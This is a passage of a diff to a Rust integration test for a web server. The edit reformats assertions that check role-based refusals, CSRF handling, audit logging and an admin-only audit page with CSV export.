-    assert_eq!(get(&server, "/ministry/reconciliation", &ministry).await.status(), StatusCode::OK);
-    assert_eq!(post_form(&server, "/ministry/answers.csv", &ministry, &[("csrf", csrf.as_str()), ("passphrase", "not the passphrase at all")]).await.status(), StatusCode::UNAUTHORIZED);
+    assert_eq!(
+        get(&server, "/ministry/reconciliation", &ministry)
+            .await
+            .status(),
+        StatusCode::OK
+    );
+    assert_eq!(
+        post_form(
+            &server,
+            "/ministry/answers.csv",
+            &ministry,
+            &[
+                ("csrf", csrf.as_str()),
+                ("passphrase", "not the passphrase at all")
+            ]
+        )
+        .await
+        .status(),
+        StatusCode::UNAUTHORIZED
+    );
     let logout = post_form(&server, "/logout", &ministry, &[("csrf", csrf.as_str())]).await;
     assert_eq!(logout.status(), StatusCode::SEE_OTHER);
 
     let log = server.intake.store.audit_log(200).unwrap();
-    let has = |login: &str, action: &str, detail: &str| log.iter().any(|e| e.login == login && e.action == action && e.detail.contains(detail));
+    let has = |login: &str, action: &str, detail: &str| {
+        log.iter()
+            .any(|e| e.login == login && e.action == action && e.detail.contains(detail))
+    };
     assert!(has("gs-dh", "refused_not_found", "/progress/district/qt"));
     assert!(has("gs-dh", "refused_role", "/ministry/reconciliation"));
     assert!(has("gs-dh", "refused_csrf", "/reassign"));
@@ -374,10 +809,31 @@ async fn item_9_every_refusal_read_and_logout_is_audited_and_admins_can_read_the
 
     // The admin's page: filtered by who and what, in the campaign's time; CSV; admins only.
     let (admin, _) = admin_session(&server).await;
-    let page = get(&server, "/admin/audit?login=gs-dh&action=refused_csrf", &admin).await.text().await.unwrap();
-    assert!(page.contains("/reassign") && !page.contains("page_read"), "{page}");
+    let page = get(
+        &server,
+        "/admin/audit?login=gs-dh&action=refused_csrf",
+        &admin,
+    )
+    .await
+    .text()
+    .await
+    .unwrap();
+    assert!(
+        page.contains("/reassign") && !page.contains("page_read"),
+        "{page}"
+    );
     assert!(page.contains("Asia/Ho_Chi_Minh"));
-    let csv = get(&server, "/admin/audit?login=gs-dh&format=csv", &admin).await.text().await.unwrap();
-    assert!(csv.starts_with("lúc,tài khoản,việc,chi tiết,địa chỉ") && csv.contains("refused_not_found"), "{csv}");
-    assert_eq!(get(&server, "/admin/audit", &supervisor).await.status(), StatusCode::NOT_FOUND);
+    let csv = get(&server, "/admin/audit?login=gs-dh&format=csv", &admin)
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        csv.starts_with("lúc,tài khoản,việc,chi tiết,địa chỉ") && csv.contains("refused_not_found"),
+        "{csv}"
+    );
+    assert_eq!(
+        get(&server, "/admin/audit", &supervisor).await.status(),
+        StatusCode::NOT_FOUND
+    );
 }
